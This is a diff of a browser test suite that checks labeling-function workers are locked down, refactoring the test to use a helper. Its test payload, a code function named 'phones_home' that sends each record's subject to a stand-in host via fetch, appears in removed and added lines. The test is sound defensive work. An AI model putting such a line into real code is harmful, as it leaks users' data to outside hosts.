@@ -5,6 +5,7 @@
  */
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { browserSuite, Harness } from './harness.ts';
+import { lfRow as row, writeCodeLf } from './lf-editor.ts';
 
 browserSuite('LF workers are locked down', () => {
   const h = new Harness();
@@ -22,18 +23,11 @@ browserSuite('LF workers are locked down', () => {
     await page.getByTestId('load-demo').click();
     await page.getByTestId('dataset-ready').waitFor({ state: 'visible' });
     await h.goto('#/lfs');
-    const lfRow = (name: string) => page.locator(`[data-testid="lf-row"][data-lf-name="${name}"]`);
+    const lfRow = (name: string) => row(page, name);
     // The starter LFs read their chunks from IndexedDB inside locked-down workers.
     await lfRow('money_words').getByText(/% coverage/).waitFor({ timeout: 60_000 });
 
-    await page.getByTestId('lf-new').click();
-    await page.getByTestId('lf-name').fill('phones_home');
-    await page.getByTestId('lf-kind').selectOption('code');
-    const code = page.getByTestId('lf-code');
-    await code.click();
-    await page.keyboard.press('Control+A');
-    await page.keyboard.press('Delete');
-    await code.fill("(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }");
+    await writeCodeLf(page, 'phones_home', "(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }");
     await page.getByTestId('lf-save').click();
     const error = lfRow('phones_home').getByTestId('lf-error');
     await error.waitFor({ timeout: 60_000 });
